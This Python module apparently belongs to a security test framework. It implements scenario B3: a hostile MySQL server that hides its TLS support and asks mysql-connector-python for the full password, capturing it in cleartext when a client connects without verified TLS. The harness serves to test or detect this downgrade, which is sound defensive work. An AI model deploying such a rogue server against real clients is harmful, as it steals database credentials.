"""B3: without TLS the driver sends the password as it is, when the server says that the proof will not do."""

from backwatch.attack.authority import Authority
from backwatch.attack.demo.services.mysql import Packets
from backwatch.attack.protocols.mysql import HonestMySQL
from backwatch.attack.protocols.server import HostileServer
from backwatch.attack.scenarios import SECRET
from backwatch.attack.techniques.mysql import ONE, ORDERS, PLAIN, Connector


class FullLogin(HonestMySQL):
    """Has no TLS, and says that the proof will not do, once it has turned."""

    def offers_tls(self) -> bool:
        """Until then."""
        return not self.hostile

    def log_in(self, wire: Packets, proof: bytes) -> None:
        """Takes what it is given instead."""
        if self.hostile:
            wire.send(b"\x01\x04")
            self.taken(wire.receive().rstrip(b"\0"))
        else:
            super().log_in(wire, proof)


class WholePassword(Connector):
    """On mysql-connector-python. The app asks for TLS everywhere but in one place."""

    code = "B3"
    attack = "hides that it can do TLS, and asks for the whole of the password"
    reference = "https://dev.mysql.com/doc/refman/8.4/en/caching-sha2-pluggable-authentication.html"
    rule = "tls-stripped"

    @classmethod
    def service(cls, authority: Authority) -> HostileServer:
        """It takes the password."""
        service = FullLogin(authority)
        service.taken = service.kept.append
        return service

    def work(self) -> None:
        """Reads orders over verified TLS, on a new connection each time."""
        self.renew()
        with self.connected().cursor() as cursor:
            cursor.execute(ORDERS, ONE)
            cursor.fetchall()

    def meet(self) -> object:
        """Does the same where somebody forgot the authority."""
        self.renew()
        with self.connected(**PLAIN).cursor() as cursor:
            cursor.execute(ORDERS, ONE)
            return len(cursor.fetchall())

    @classmethod
    def succeeded(cls, service: HostileServer, got: object) -> bool:
        """The password has arrived."""
        del got
        return SECRET.encode() in service.kept
